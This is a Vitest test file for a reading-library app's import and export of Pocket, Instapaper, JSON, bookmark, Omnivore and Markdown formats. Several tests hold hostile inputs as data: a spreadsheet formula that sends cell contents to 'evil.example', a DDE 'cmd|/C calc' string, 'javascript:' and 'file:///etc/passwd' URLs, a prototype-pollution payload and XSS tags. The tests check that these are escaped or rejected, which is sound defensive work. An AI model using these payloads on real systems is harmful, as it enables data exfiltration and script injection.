import { strToU8, unzipSync, zipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { detectFormat, exportLibraryJson, exportPocketCsv, parseImport } from '@/utils/library/formats';
import { exportMarkdownZip, itemToMarkdown } from '@/utils/library/formats/markdown';
import { fixture, fixtureBytes, makeItem } from './helpers';

const NOW = 1_800_000_000_000;

describe('Pocket CSV', () => {
  it('reads BOM, CRLF, quoted quotes, commas and newlines, empty tags', () => {
    const result = parseImport('pocket.csv', fixtureBytes('pocket.csv'), { now: NOW });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(
      result.items.map((item) => [
        item.url,
        item.title,
        item.savedAt,
        item.tags,
        item.state,
        item.fetchState,
      ]),
    ).toEqual([
      [
        'https://example.com/quotes',
        'Why "quotes", commas, and more',
        1_700_000_000_000,
        ['reading', 'long reads'],
        'unread',
        'pending',
      ],
      [
        'https://www.example.org/two-lines/',
        'A title\nspanning two lines',
        1_700_000_100_000,
        [],
        'archived',
        'pending',
      ],
      ['http://blog.example.net/post', 'Plain title', 1_700_000_200_000, ['solo'], 'unread', 'pending'],
      [
        'https://example.com/untitled',
        'https://example.com/untitled',
        1_700_000_300_000,
        [],
        'archived',
        'pending',
      ],
    ]);
  });

  it.each([
    [
      'pocket-bad-url.csv',
      /^Line 7: "not a url" is not a web address/,
      'importErrorNotAddress',
      ['7', 'not a url'],
    ],
    ['pocket-unterminated.csv', /^Line 4: a quoted field is never closed/, 'importErrorUnclosedQuote', ['4']],
    [
      'pocket-bad-time.csv',
      /^Line 3: time_added "yesterday"/,
      'importErrorBadTime',
      ['3', 'time_added', 'yesterday'],
    ],
    ['instapaper-bad-tags.csv', /^Line 3: Tags/, 'importErrorBadTags', ['3']],
  ])('%s fails whole, naming the real line', (name, message, key, params) => {
    const result = parseImport(name, fixture(name), { now: NOW });
    expect(result).toEqual({ ok: false, error: expect.stringMatching(message), localized: { key, params } });
  });

  it('a wrong header is not a format we read', () => {
    expect(parseImport('wrong-header.csv', fixture('wrong-header.csv')).ok).toBe(false);
  });

  it('round-trips url, title, tags, state and savedAt in seconds', () => {
    const items = [
      makeItem({
        url: 'https://example.com/a',
        title: 'Commas, "quotes"\nand lines',
        tags: ['x', 'y z'],
        savedAt: 1_700_000_000_999,
      }),
      makeItem({
        url: 'https://example.com/b',
        title: 'Plain',
        state: 'archived',
        savedAt: 1_600_000_000_000,
      }),
    ];
    const result = parseImport('export.csv', exportPocketCsv(items), { now: NOW });
    if (!result.ok) throw new Error(result.error);
    expect(result.items.map((i) => [i.url, i.title, i.tags, i.state, i.savedAt])).toEqual([
      ['https://example.com/a', 'Commas, "quotes"\nand lines', ['x', 'y z'], 'unread', 1_700_000_000_000],
      ['https://example.com/b', 'Plain', [], 'archived', 1_600_000_000_000],
    ]);
  });
});

describe('CSV export and spreadsheet formulas (issue 15, finding 4)', () => {
  const hostile = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '@SUM(1+1)*cmd|/C calc!A0',
    '+1+1',
    '-2+3',
    '\tindented',
    '\rcarriage',
    // Titles that already read as escaped: they survive the round trip too.
    "'-2",
    "''=A1",
  ];

  it('starts no cell with =, +, -, @, tab or CR, and reads its own escaping back', () => {
    const items = hostile.map((title, n) =>
      makeItem({ url: `https://example.com/${n}`, title, tags: [title.trim(), 'plain'] }),
    );
    const csv = exportPocketCsv(items);
    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${hostile[0]}`);
    const result = parseImport('export.csv', csv, { now: NOW });
    if (!result.ok) throw new Error(result.error);
    expect(result.items.map((item) => item.title)).toEqual(hostile.map((title) => title.trim() || title));
    expect(result.items.map((item) => item.tags[0])).toEqual(
      hostile.map((title) => title.trim().split('|')[0]),
    );
  });
});

describe('Instapaper CSV', () => {
  it('maps folders, selections and JSON tags', () => {
    const result = parseImport('instapaper.csv', fixture('instapaper.csv'), { now: NOW });
    if (!result.ok) throw new Error(result.error);
    expect(result.items.map((i) => [i.title, i.state, i.favourite, i.tags, i.excerpt, i.savedAt])).toEqual([
      [
        'One, with a comma',
        'unread',
        false,
        ['news', 'long reads'],
        'The part I highlighted',
        1_690_000_000_000,
      ],
      ['Two', 'archived', false, [], null, 1_690_000_100_000],
      ['Three', 'unread', true, [], 'Multi\nline selection', 1_690_000_200_000],
      ['Four', 'unread', false, ['Recipes', 'food'], null, 1_690_000_300_000],
    ]);
  });
});

describe('JSON', () => {
  it('round-trips losslessly', () => {
    const items = [
      makeItem({
        url: 'https://example.com/a',
        contentHtml: '<p>x</p>',
        text: 'x',
        quotes: [{ text: 'q', createdAt: 1_700_000_000_001 }],
        cards: [
          { quote: 'q', theme: 't', size: 's', createdAt: 1_700_000_000_002 },
          {
            quote: 'q',
            theme: 't',
            size: 's',
            createdAt: 1_700_000_000_003,
            post: {
              network: 'bluesky',
              uri: 'at://did:plc:abc/app.bsky.feed.post/3k',
              url: 'https://bsky.app/profile/a.test/post/3k',
              pdsUrl: 'https://pds.example/xrpc/com.atproto.repo.getRecord?rkey=3k',
            },
          },
        ],
        fetchState: 'ok',
        favourite: true,
        progress: 0.3,
        readingMinutes: 4,
      }),
      makeItem({
        url: 'https://example.com/b',
        fetchState: 'failed',
        fetchError: 'offline',
        dir: 'rtl',
        lang: 'ar',
      }),
    ];
    expect(parseImport('lib.json', exportLibraryJson(items, NOW), { now: NOW })).toEqual({
      ok: true,
      items,
      repairedDates: 0,
    });
  });

  it('keeps where a card was posted, and drops a post address that is not one (not the card)', () => {
    const card = { quote: 'q', theme: 't', size: 's', createdAt: 1_700_000_000_002 };
    const bad = [
      { network: 'mastodon', uri: 'at://x', url: 'https://bsky.app/x' },
      { network: 'bluesky', uri: 'https://not-at', url: 'https://bsky.app/x' },
      { network: 'bluesky', uri: 'at://x', url: 'javascript:alert(1)' },
      { network: 'bluesky', uri: 'at://x', url: 'https://bsky.app/x', pdsUrl: 'file:///etc/passwd' },
      'at://x',
    ];
    const item = makeItem({
      url: 'https://example.com/a',
      cards: bad.map((post) => ({ ...card, post })) as never,
    });
    const result = parseImport('lib.json', exportLibraryJson([item], NOW), { now: NOW });
    expect(result.ok && result.items[0]?.cards).toEqual(bad.map(() => card));
  });

  it('files each item under its own URL: an id naming another page is not believed', () => {
    const forged = makeItem({ url: 'https://attacker.example/x', id: 'https://news.example/a' });
    const json = exportLibraryJson([forged], NOW);
    const result = parseImport('lib.json', json, { now: NOW });
    expect(result.ok && result.items.map((item) => [item.id, item.url])).toEqual([
      ['https://attacker.example/x', 'https://attacker.example/x'],
    ]);
  });

  it('drops fields the library does not know', () => {
    const item = makeItem({ url: 'https://example.com/a' });
    const json = JSON.stringify({
      format: 'pullquote-library',
      version: 1,
      exportedAt: NOW,
      items: [{ ...item, evil: '<script>', onclick: 'x', constructor: { prototype: 1 } }],
    }).replace('"id":', '"__proto__":{"polluted":true},"id":');
    const result = parseImport('lib.json', json, { now: NOW });
    expect(result.ok && result.items).toEqual([item]);
    expect(result.ok && Object.keys(result.items[0] ?? {}).sort()).toEqual(Object.keys(item).sort());
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses reading minutes that are not a number of 0 or more', () => {
    for (const readingMinutes of [-1, '5', null, Number.POSITIVE_INFINITY]) {
      const json = JSON.stringify({
        format: 'pullquote-library',
        version: 1,
        exportedAt: NOW,
        items: [{ ...makeItem({ url: 'https://example.com/a' }), readingMinutes }],
      });
      const result = parseImport('lib.json', json, { now: NOW });
      expect(result.ok ? 'imported' : result.error).toMatch(/readingMinutes/);
    }
  });

  it('names the item and field at fault', () => {
    const text = JSON.stringify({
      format: 'pullquote-library',
      version: 1,
      exportedAt: 0,
      items: [
        makeItem({ url: 'https://example.com/a' }),
        { ...makeItem({ url: 'https://example.com/b' }), progress: 7 },
      ],
    });
    expect(parseImport('lib.json', text)).toEqual({
      ok: false,
      error: 'Item 2: field "progress" should be a number from 0 to 1.',
      localized: { key: 'importErrorItem', params: ['2', 'field "progress" should be a number from 0 to 1'] },
    });
  });
});

describe('Netscape bookmarks', () => {
  it('reads dates, tags and folders, skipping non-web bookmarks', () => {
    const result = parseImport('bookmarks.html', fixture('bookmarks.html'), { now: NOW });
    if (!result.ok) throw new Error(result.error);
    expect(result.items.map((i) => [i.url, i.title, i.tags, i.savedAt, i.excerpt])).toEqual([
      ['https://example.com/toolbar', 'On the toolbar', [], 1_600_000_001_000, null],
      [
        'https://example.com/essay',
        'An essay & more',
        ['Reading', 'essays', 'long'],
        1_600_000_003_000,
        'Worth reading twice.',
      ],
      ['https://science.example.org/paper', 'A paper', ['Reading', 'Science'], 1_600_000_005_000, null],
      ['https://example.net/top', 'Top level', [], 1_600_000_007_000, null],
    ]);
  });
});

describe('Omnivore zip', () => {
  it('reads metadata, content and highlights', () => {
    const zip = zipSync({
      'metadata_0_to_2.json': strToU8(fixture('omnivore/metadata_0_to_2.json')),
      'content/the-slow-web-18c0a.html': strToU8(fixture('omnivore/content/the-slow-web-18c0a.html')),
      'highlights/the-slow-web-18c0a.md': strToU8(fixture('omnivore/highlights/the-slow-web-18c0a.md')),
    });
    expect(detectFormat('omnivore.zip', zip)).toBe('omnivore-zip');
    const result = parseImport('omnivore.zip', zip, { now: NOW });
    if (!result.ok) throw new Error(result.error);
    const [slow, pending] = result.items;
    expect(slow).toMatchObject({
      title: 'The Slow Web',
      byline: 'Ada Writer',
      state: 'archived',
      progress: 1,
      tags: ['essays', 'web'],
      fetchState: 'ok',
      savedAt: Date.parse('2024-03-01T10:00:00.000Z'),
      text: 'Slow down\n\nThe web is fast. Reading should not be.\n\nTake your time with it.',
    });
    expect(slow?.quotes.map((q) => q.text)).toEqual([
      'The web is fast. Reading should not be.',
      'Take your time\nwith it.',
    ]);
    expect(pending).toMatchObject({
      url: 'https://example.org/pending',
      state: 'unread',
      progress: 0.35,
      fetchState: 'pending',
      contentHtml: null,
      quotes: [],
    });
  });

  it('bad metadata fails whole, naming the file', () => {
    const zip = zipSync({ 'metadata_0.json': strToU8('[{"url": "https://example.com/a"}') });
    expect(parseImport('o.zip', zip)).toEqual({
      ok: false,
      error: 'metadata_0.json: not valid JSON.',
      localized: { key: 'importErrorFileNotJson', params: ['metadata_0.json'] },
    });
  });
});

describe('Markdown zip', () => {
  it('writes one file per item with front matter and unique safe names', () => {
    const items = [
      makeItem({
        url: 'https://example.com/a',
        title: 'Same / title: "x"',
        tags: ['t'],
        contentHtml:
          '<h2>Head</h2><p>Para <a href="https://l.example/">link</a></p><ul><li>one</li></ul><blockquote><p>quoted</p></blockquote>',
      }),
      makeItem({ url: 'https://example.com/b', title: 'same / TITLE: "x"', text: 'Just text.' }),
      makeItem({ url: 'https://example.com/c', title: 'CON' }),
    ];
    const files = unzipSync(exportMarkdownZip(items));
    expect(Object.keys(files)).toEqual(['Same title x.md', 'same TITLE x (2).md', 'CON_.md']);
    const first = new TextDecoder().decode(files['Same title x.md']);
    expect(first).toContain('title: "Same / title: \\"x\\""');
    expect(first).toContain('tags: ["t"]');
    expect(first).toContain('## Head\n\nPara [link](<https://l.example/>)\n\n- one\n\n> quoted');
    expect(new TextDecoder().decode(files['same TITLE x (2).md'])).toContain('Just text.');
  });
});

describe('Markdown export of kept quotes (issue 15, finding 11)', () => {
  it('escapes a quote’s markup instead of writing it as raw HTML', () => {
    const item = makeItem({
      url: 'https://example.com/a',
      quotes: [
        {
          text: '<img src=x onerror="alert(1)"> said **loudly**\n<script>x()</script> [go](javascript:alert(1))',
          createdAt: 1_700_000_000_000,
        },
      ],
    });
    const markdown = itemToMarkdown(item);
    const quotes = markdown.slice(markdown.indexOf('## Quotes'));
    expect(quotes).not.toMatch(/(^|[^\\])<(img|script)/);
    expect(quotes).toContain('> \\<img src=x onerror="alert(1)"\\> said \\*\\*loudly\\*\\*');
    expect(quotes).toContain('> \\<script\\>x()\\</script\\> \\[go\\](javascript:alert(1))');
  });
});

describe('imported HTML cut into blocks with the shared tag lists (utils/html-blocks.ts)', () => {
  it('text: every HTML block is its own paragraph, what never renders is dropped', async () => {
    const { textFromHtml } = await import('@/utils/library/formats/html');
    const html =
      '<dl><dt>Term</dt><dd>Its meaning</dd></dl><template>never</template><noscript>nor</noscript>' +
      '<figure><img src="x.png"><figcaption>A caption</figcaption></figure>';
    expect(textFromHtml(html)).toBe('Term\n\nIts meaning\n\nA caption');
  });

  it('Markdown: a navigation block is a paragraph of its own, not glued to the next one', async () => {
    const { htmlToMarkdown } = await import('@/utils/library/formats/markdown');
    expect(htmlToMarkdown('<div><nav>Home</nav>Body text.<script>x()</script></div>')).toBe(
      'Home\n\nBody text.',
    );
  });
});
